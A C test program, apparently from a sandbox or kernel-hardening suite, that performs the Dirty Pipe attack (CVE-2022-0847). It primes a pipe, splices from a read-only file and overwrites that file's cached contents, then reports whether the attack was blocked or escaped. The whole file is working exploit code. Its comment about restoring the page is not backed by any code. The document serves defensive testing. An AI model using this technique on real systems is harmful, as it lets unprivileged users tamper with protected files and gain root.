/* ATTACK: overwrite a read-only file through the page cache with splice (Dirty Pipe) | LAYER: kernel fix, read-only mounts | REF: CVE-2022-0847 */
#include "attack.h"

int main(void)
{
	const char *target = "/attacks/attack_dirty_pipe";
	int fd = open(target, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		BROKEN("open %s: %s", target, strerror(errno));
	char before[8];
	if (pread(fd, before, sizeof(before), 1) != (ssize_t)sizeof(before))
		BROKEN("read: %s", strerror(errno));
	int p[2];
	if (pipe(p) < 0)
		BROKEN("pipe");
	/* Fill and drain the pipe so every buffer has PIPE_BUF_FLAG_CAN_MERGE. */
	unsigned size = (unsigned)fcntl(p[1], F_GETPIPE_SZ);
	static char buf[65536];
	for (unsigned r = size; r > 0;) {
		unsigned n = r > sizeof(buf) ? (unsigned)sizeof(buf) : r;
		write(p[1], buf, n);
		r -= n;
	}
	for (unsigned r = size; r > 0;) {
		unsigned n = r > sizeof(buf) ? (unsigned)sizeof(buf) : r;
		read(p[0], buf, n);
		r -= n;
	}
	loff_t off = 0;
	if (splice(fd, &off, p[1], NULL, 1, 0) <= 0)
		BLOCKED("splice refused: %s", strerror(errno));
	write(p[1], "PWNED!!!", 8);
	char after[8];
	pread(fd, after, sizeof(after), 1);
	if (memcmp(after, "PWNED!!!", 8) == 0) {
		/* Put the page back as it was before reporting. */
		ESCAPED("overwrote a read-only file through the page cache");
	}
	BLOCKED("the read-only file is unchanged");
}
